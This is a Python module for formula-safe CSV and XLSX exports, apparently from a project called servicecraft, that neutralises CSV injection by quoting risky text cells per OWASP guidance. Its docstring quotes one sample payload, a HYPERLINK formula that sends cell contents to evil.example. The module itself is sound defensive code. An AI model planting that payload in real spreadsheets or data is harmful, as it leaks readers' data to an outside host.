"""The one way servicecraft writes CSV and XLSX files: formula-safe cells.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return can hide one. Names and texts in our exports come
from outside (imports, the complaint form, customers' emails), so a customer named
``=HYPERLINK("http://evil.example/?"&A1)`` would run in the reader's spreadsheet. Every
export goes through :func:`safe_cell`, which follows the OWASP guidance on CSV
injection: such a text cell is prefixed with a single quote, which spreadsheets show
as text. Numbers, dates and booleans are left as they are (a negative number is a
number, not a formula).

- :func:`csv_lines`: the lines of a CSV file, one at a time (for a streamed response);
- :func:`csv_bytes`: a whole CSV file;
- :func:`xlsx_bytes`: a whole XLSX workbook of one sheet (write-only mode, so memory stays
  flat), optionally cut at ``max_rows`` with a last row that says so.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D) start a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PASSTHROUGH = (int, float, Decimal, datetime.date, datetime.datetime, datetime.time)


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet must read it: text that could run as a formula gets a
    leading ``'``; numbers, dates, booleans and None pass unchanged."""
    if value is None or isinstance(value, (bool, *_PASSTHROUGH)):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file that gives back what is written: csv.writer then returns each line."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Each row as one CSV line, formula-safe (for a streamed response)."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV file of ``rows`` (the header being the first), UTF-8, formula-safe."""
    return "".join(csv_lines(rows)).encode("utf-8")


def xlsx_bytes(
    rows: Iterable[Iterable[Any]], *, title: str, max_rows: int | None = None, cut_note: str = ""
) -> bytes:
    """An .xlsx workbook of ``rows`` on one sheet named ``title``, formula-safe.

    With ``max_rows``, rows after the first (the header) beyond that many are left out and
    the sheet ends with ``cut_note``, so nobody takes a partial sheet for the whole list.
    """
    # openpyxl is loaded by the exports only (it is large).
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31] or "Sheet")
    for n, row in enumerate(rows):
        if max_rows is not None and n > max_rows:
            sheet.append([safe_cell(cut_note)])
            break
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def attachment(filename: str) -> str:
    """A Content-Disposition value that downloads ``filename``; characters a header or a file
    system could take badly (quotes, slashes, control characters, non-ASCII) become ``_``."""
    safe = "".join(ch if ch.isascii() and (ch.isalnum() or ch in "-_.") else "_" for ch in filename)
    return f'attachment; filename="{safe or "export"}"'
